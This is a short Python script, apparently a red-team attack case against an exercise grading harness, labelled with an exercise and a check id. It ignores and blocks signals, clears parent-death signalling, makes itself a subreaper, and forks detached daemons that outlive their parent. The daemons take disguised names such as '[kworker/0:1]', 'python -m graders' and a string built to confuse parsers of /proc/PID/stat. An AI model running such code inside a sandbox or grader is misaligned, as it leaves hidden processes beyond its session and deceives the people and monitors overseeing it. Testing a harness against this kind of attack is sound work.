# attack: leaves daemons that ignore and block every signal that can be, and that have taken back that they die with their parent
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import os
import signal
import time

libc = ctypes.CDLL(None, use_errno=True)
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
for death in (0, signal.SIGWINCH, signal.SIGCHLD):
    print("with its parent:", death, libc.prctl(1, ctypes.c_ulong(death), 0, 0, 0), os.strerror(ctypes.get_errno()))
print("reaper", libc.prctl(36, 1, 0, 0, 0))  # so that its orphans are its own
for name in ("[kworker/0:1]", "python -m graders", "x) Z 1 1 1 ("):
    if os.fork() == 0:
        os.setsid()
        libc.prctl(15, name.encode(), 0, 0, 0)  # a name that may mislead who reads /proc/PID/stat
        if os.fork() == 0:
            os.setpgid(0, 0)
            time.sleep(20)
        if name.startswith("x"):
            time.sleep(20)
        os._exit(0)
time.sleep(0.05)
signal.pthread_sigmask(signal.SIG_SETMASK, ())
print("TRIED")
